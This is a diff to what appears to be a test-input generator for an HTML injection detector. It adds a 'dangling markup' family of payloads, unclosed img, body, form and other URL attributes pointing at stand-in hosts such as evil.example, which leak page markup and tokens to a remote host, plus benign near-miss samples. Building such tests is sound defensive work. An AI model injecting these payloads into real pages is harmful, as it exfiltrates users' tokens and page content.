@@ -113,7 +113,23 @@ def other_shapes_family() -> list[str]:
     return out
 
 
+def dangling_markup_family() -> list[str]:
+    """A URL attribute whose value, on another host, runs on over the page's own markup: its
+    quote never closes, or the quoted value holds the next tag (`<body background="//evil? <table`).
+    The browser sends that markup, tokens and all, to the remote host."""
+    out = []
+    for tag, attr in [("img", "src"), ("body", "background"), ("a", "href"), ("form", "action"),
+                      ("table", "background"), ("input type=image", "src"), ("video", "poster")]:
+        for host in ["//evil.example/?", "https://evil.example/log?", "http://10.0.0.9/c?x=", " //evil.example/"]:
+            for q in ["'", '"']:
+                out.append(f"<{tag} {attr}={q}{host}")
+                out.append(f"x{q}><{tag} {attr}={q}{host}")
+                out.append(f"<{tag} {attr}={q}{host} <table><tr><td>{q}>")
+    return out
+
+
 ATTACK_FAMILIES = {
+    "dangling-markup": dangling_markup_family,
     "tag-handler": tag_handler_family,
     "attribute-breakout": attribute_breakout_family,
     "script-url": script_url_family,
@@ -156,6 +172,9 @@ BENIGN = [
     "Regular expression (regex) tutorial",
     "alert: your package has shipped",
     "print('hello world')",
+    "<img src='/static/a.png?v=2",
+    '<a href="https://example.com/a">one</a> and <a href="https://example.com/b">two</a>',
+    '<img src="https://cdn.example.com/a.png" alt="<3">',
 ]
 
 
